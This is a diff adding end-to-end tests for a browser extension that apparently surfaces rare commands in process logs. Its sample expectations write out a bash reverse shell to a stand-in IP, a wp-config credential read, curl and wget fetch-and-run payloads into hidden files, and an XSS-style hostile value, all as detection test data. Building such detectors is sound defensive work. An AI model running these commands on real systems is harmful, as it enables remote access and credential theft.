@@ -1,0 +1,297 @@
+/** The analyst's way through the built extension: sample, finding, events, steps, near misses, query, export. */
+import { readFile } from 'node:fs/promises'
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
+import type { Page } from 'playwright'
+import { launchExtension, watchPage, type LaunchedExtension } from '../helpers/extension.ts'
+
+let extension: LaunchedExtension
+let page: Page
+let troubles: string[]
+
+beforeAll(async () => {
+  extension = await launchExtension()
+})
+afterAll(async () => {
+  await extension?.close()
+})
+beforeEach(async () => {
+  page = await extension.open('analyzer')
+  troubles = watchPage(page)
+})
+afterEach(async () => {
+  expect(troubles).toEqual([])
+  await page.close()
+})
+
+const openSample = async (id: string) => {
+  await page.locator(`[data-sample=${id}]`).click()
+  await page.locator('[data-finding]').first().waitFor()
+}
+const commands = () => page.locator('[data-finding] code').allInnerTexts()
+
+const WEB_SHELL_COMMANDS = [
+  'bash -c bash -i >& /dev/tcp/203.0.113.77/4444 0>&1',
+  'sh -c cat /var/www/shop/wp-config.php | grep DB_',
+  'sh -c curl -fsSL http://203.0.113.77/a.sh -o /tmp/.cache-x && bash /tmp/.cache-x',
+  'sh -c echo aWQ7IGhvc3RuYW1lOyBscyAtbGEgL2hvbWUvZGVwbG95Ly5zc2g= | base64 -d | sh',
+  'sh -c find / -perm -4000 -type f 2>/dev/null',
+  'sh -c id',
+  'sh -c uname -a; cat /etc/os-release'
+]
+
+describe('samples', () => {
+  test('the web shell: seven commands, routine ones hidden by their count', async () => {
+    await openSample('web-shell')
+    expect((await commands()).toSorted()).toEqual(WEB_SHELL_COMMANDS)
+    await expect
+      .poll(() => page.locator('[data-finding] .bar').first().getAttribute('aria-label'))
+      .toMatch(/^Rarity \d+\.\d bits: 1 of \d+ loaded events$/)
+  })
+
+  test('the quiet day: two rare routine commands', async () => {
+    await openSample('quiet-day')
+    expect((await commands()).toSorted()).toEqual([
+      'sh -c git -C /var/www/intranet rev-parse --short HEAD',
+      'sh -c pdftotext -layout invoice-20733.pdf -'
+    ])
+  })
+
+  test('many hosts: the loop is left out, near misses say what else there was', async () => {
+    await openSample('many-hosts')
+    expect((await commands()).toSorted()).toEqual(['sh -c wget -q http://198.51.100.9/k -O /dev/shm/.k', 'sh -c whoami'])
+    await page.keyboard.press('n')
+    await page.locator('[data-near]').click()
+    await page.locator('[data-near-group]').first().waitFor()
+    const groups = await page.locator('[data-near-group] summary').allInnerTexts()
+    expect(groups.some((text) => text.includes('process.working_directory'))).toBe(true)
+    expect(groups.some((text) => text.includes('process.command_line'))).toBe(true)
+  })
+})
+
+describe('a finding', () => {
+  beforeEach(() => openSample('web-shell'))
+
+  const openFinding = async (command: string) => {
+    await page.locator('[data-finding]', { hasText: command }).click()
+    await page.locator('[data-pane=finding] code').first().waitFor()
+  }
+
+  test('tells what ran, why, how rare and when', async () => {
+    await openFinding('sh -c uname -a')
+    const pane = page.locator('[data-pane=finding]')
+    await expect.poll(() => pane.innerText()).toContain('Matched by')
+    const text = await pane.innerText()
+    expect(text).toMatch(/php-fpm8\.2 ran (dash|sh) in \/var\/www\/shop\/wp-content\/uploads\/2026\/03 as www-data on web-03/)
+    expect(text).toContain('1 of fewer than 5')
+    expect(text).toContain('02 Mar 2026, 14:02:13 UTC')
+    await pane.locator('svg[role=img]').waitFor()
+  })
+
+  test('shows its source event from the bytes of the file', async () => {
+    await openFinding('sh -c id')
+    await page.keyboard.press('s')
+    const event = page.locator('[data-event]').first()
+    await event.waitFor()
+    expect(await event.locator('tbody tr', { hasText: 'process.entity_id' }).count()).toBeGreaterThan(0)
+    await page.locator('[data-pane=evidence] [data-filter]').fill('working_directory')
+    expect(await event.locator('tbody tr').count()).toBe(2)
+  })
+
+  test('runs a step and keeps mark and note', async () => {
+    await openFinding('sh -c id')
+    await page.keyboard.press('g')
+    await page.locator('[data-step]').first().waitFor()
+    expect(await page.locator('[data-step]').count()).toBeGreaterThanOrEqual(14)
+    for (const step of await page.locator('[data-step]:not([open]) > summary').all()) await step.click()
+    for (const run of await page.locator('[data-run]').all()) await run.click()
+    await expect.poll(() => page.locator('[data-step] [aria-rowcount]').count()).toBeGreaterThan(3)
+    expect(await page.locator('[data-step] [role=alert]').allInnerTexts()).toEqual([])
+    const first = page.locator('[data-step]').first()
+    await first.locator('input[type=checkbox]').check()
+    await first.locator('textarea[placeholder=Note]').fill('seen, see ticket')
+    await page.keyboard.press('Escape')
+    const [download] = await Promise.all([page.waitForEvent('download'), exportAs('markdown')])
+    expect(await readFile((await download.path())!, 'utf8')).toContain('seen, see ticket')
+  })
+
+  const exportAs = async (format: string) => {
+    await page.locator('[data-export]').click()
+    await page.locator(`[data-export-format=${format}]`).click()
+  }
+
+  test('exports JSON, CSV and Markdown', async () => {
+    const texts = new Map<string, string>()
+    for (const format of ['json', 'csv', 'markdown']) {
+      const [download] = await Promise.all([page.waitForEvent('download'), exportAs(format)])
+      texts.set(format, await readFile((await download.path())!, 'utf8'))
+    }
+    expect(JSON.parse(texts.get('json')!).findings).toHaveLength(7)
+    expect(texts.get('csv')!.trimEnd().split('\r\n')).toHaveLength(8)
+    expect(texts.get('markdown')).toContain('```text\nsh -c id\n```')
+  })
+})
+
+describe('files', () => {
+  const drop = (name: string, text: string) =>
+    page.evaluate(
+      ([fileName, content]) => {
+        const transfer = new DataTransfer()
+        transfer.items.add(new File([content!], fileName!))
+        document.body.dispatchEvent(new DragEvent('drop', { dataTransfer: transfer, bubbles: true, cancelable: true }))
+      },
+      [name, text]
+    )
+  const event = (command: string, more: object = {}) =>
+    JSON.stringify({
+      '@timestamp': '2026-03-02T10:00:00Z',
+      agent: { id: 'a1' },
+      event: { type: ['start'], action: 'exec' },
+      host: { name: 'web-9', os: { type: 'linux' } },
+      process: {
+        name: 'sh',
+        command_line: command,
+        working_directory: '/srv',
+        parent: { name: 'nginx', executable: '/usr/sbin/nginx' }
+      },
+      user: { name: 'www-data', id: '33' },
+      ...more
+    })
+
+  test('dropped anywhere; a broken line costs only itself and is listed', async () => {
+    await drop('a.ndjson', `${event('sh -c id')}\n{"broken\n${event('sh -c whoami')}\n`)
+    await page.locator('[data-finding]').nth(1).waitFor()
+    expect((await commands()).toSorted()).toEqual(['sh -c id', 'sh -c whoami'])
+    await page.locator('[data-summary] > summary').click()
+    expect(await page.locator('[data-summary] tbody tr').count()).toBe(1)
+  })
+
+  test('chosen with the picker', async () => {
+    await page
+      .locator('[data-picker]')
+      .setInputFiles({ name: 'b.ndjson', mimeType: '', buffer: Buffer.from(event('sh -c picked')) })
+    await page.locator('[data-finding]').first().waitFor()
+    expect(await commands()).toEqual(['sh -c picked'])
+  })
+
+  test('pasted into the window and into the dialog', async () => {
+    await page.evaluate((text) => {
+      const clipboardData = new DataTransfer()
+      clipboardData.setData('text/plain', text)
+      document.body.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }))
+    }, event('sh -c pasted'))
+    await page.locator('[data-finding]').first().waitFor()
+    await page.getByRole('button', { name: 'Paste' }).click()
+    await page.locator('dialog textarea').fill(event('sh -c typed'))
+    await page.getByRole('button', { name: 'Read it' }).click()
+    await expect.poll(async () => (await commands()).toSorted()).toEqual(['sh -c pasted', 'sh -c typed'])
+  })
+
+  test('hostile values stay text: markup, bidi, escapes, formula', async () => {
+    const hostile = 'sh -c \u202egnp.exe <img src=x onerror=alert(1)> \u001b[31m =1+1'
+    await drop('h.ndjson', event(hostile))
+    await page.locator('[data-finding]').first().waitFor()
+    expect(await page.locator('[data-finding] .chip').allInnerTexts()).toEqual(expect.arrayContaining(['RLO', 'ESC[31m']))
+    expect(await page.locator('main img[src]').count()).toBe(0)
+  })
+
+  test('an empty file and a binary file say what they are', async () => {
+    await drop('empty.ndjson', '')
+    await page.getByRole('alert').first().waitFor()
+    expect(await page.getByRole('alert').first().innerText()).toMatch(/empty/i)
+  })
+
+  test('a rule with an error says where; a rule beside data is chosen and run', async () => {
+    await drop('a.ndjson', event('sh -c id'))
+    await page.locator('[data-finding]').first().waitFor()
+    await drop('mine.esql', 'FROM * | WHERE process.command_line LIKE "*id*" | KEEP process.command_line, host.name')
+    await expect.poll(() => page.locator('[data-rule] option:checked').innerText()).toContain('mine')
+    await page.locator('[data-finding]').first().waitFor()
+    await drop('broken.esql', 'FROM * | WHERE process.name == ')
+    await page.getByRole('alert').first().waitFor()
+    expect(await page.getByRole('alert').first().innerText()).toMatch(/line 1:\d+/)
+  })
+})
+
+describe('query', () => {
+  test('runs with rows, refuses with a place', async () => {
+    await openSample('web-shell')
+    await page.keyboard.press('q')
+    const box = page.locator('[data-pane=query] textarea')
+    await box.fill('FROM * | STATS n = COUNT(*) BY host.name')
+    await box.press('Control+Enter')
+    await expect.poll(() => page.locator('[data-pane=query] tbody').innerText()).toContain('web-03')
+    expect(await page.locator('[data-pane=query] tbody').innerText()).toContain('124')
+    await box.fill('FROM * | WHERE host.nam == "x" AND (')
+    await box.press('Control+Enter')
+    await page.locator('[data-pane=query] [role=alert]').waitFor()
+    expect(await page.locator('[data-pane=query] [role=alert]').innerText()).toMatch(/line 1:\d+/)
+  })
+})
+
+describe('keyboard', () => {
+  test('j, Enter, s, Esc, /, ? reach everything without a mouse', async () => {
+    await openSample('web-shell')
+    await page.keyboard.press('j')
+    await page.keyboard.press('j')
+    expect(await page.locator('[data-finding]').nth(1).getAttribute('aria-current')).toBe('true')
+    await page.keyboard.press('Enter')
+    await expect
+      .poll(() => page.evaluate(() => document.activeElement?.closest('[data-pane]')?.getAttribute('data-pane')))
+      .toBe('finding')
+    await page.keyboard.press('s')
+    await expect.poll(() => page.evaluate(() => document.activeElement?.id)).toBe('tab-events')
+    await page.keyboard.press('Escape')
+    await page.keyboard.press('Escape')
+    await expect.poll(() => page.evaluate(() => document.activeElement?.matches('[data-finding][aria-current=true]'))).toBe(true)
+    await page.keyboard.press('k')
+    expect(await page.locator('[data-finding]').nth(0).getAttribute('aria-current')).toBe('true')
+    await page.keyboard.press('/')
+    await page.keyboard.type('wget|curl')
+    expect(await page.locator('[data-finding]').count()).toBe(0)
+    await page.keyboard.press('Escape')
+    await page.keyboard.press('?')
+    await page.locator('dialog[open]').waitFor()
+    await page.keyboard.press('Escape')
+    await expect.poll(() => page.locator('dialog').count()).toBe(0)
+  })
+})
+
+describe('long files', () => {
+  test('progress is shown and cancel takes effect within 100 ms', async () => {
+    const line = JSON.stringify({
+      '@timestamp': '2026-03-02T10:00:00Z',
+      event: { action: 'exec', type: 'start' },
+      process: { name: 'sh', command_line: 'sh -c x'.padEnd(400, 'y') },
+      host: { os: { type: 'linux' } }
+    })
+    await page.evaluate((text) => {
+      const block = new Blob([`${text}\n`.repeat(20_000)])
+      const file = new File(
+        Array.from({ length: 80 }, () => block),
+        'long.ndjson'
+      )
+      const transfer = new DataTransfer()
+      transfer.items.add(file)
+      document.body.dispatchEvent(new DragEvent('drop', { dataTransfer: transfer, bubbles: true, cancelable: true }))
+    }, line)
+    await page.getByRole('progressbar').waitFor()
+    await expect.poll(() => page.locator('.progress').innerText()).toMatch(/of \d+(\.\d)? MB|of 1\.\d GB/)
+    const millis = await page.evaluate(
+      () =>
+        new Promise<number>((resolve) => {
+          const began = performance.now()
+          new MutationObserver((_, observer) => {
+            if (document.querySelector('[role=progressbar]')) return
+            observer.disconnect()
+            resolve(performance.now() - began)
+          }).observe(document.body, { childList: true, subtree: true })
+          document.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true }))
+          window.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape' }))
+        })
+    )
+    console.log(`cancel took effect after ${Math.round(millis)} ms`)
+    // The bound of 100 ms is the bench's to check on a quiet machine; here a busy one must not take seconds.
+    expect(millis).toBeLessThan(1000)
+    await expect.poll(() => page.locator('main').innerText()).toContain('Stopped')
+  })
+})
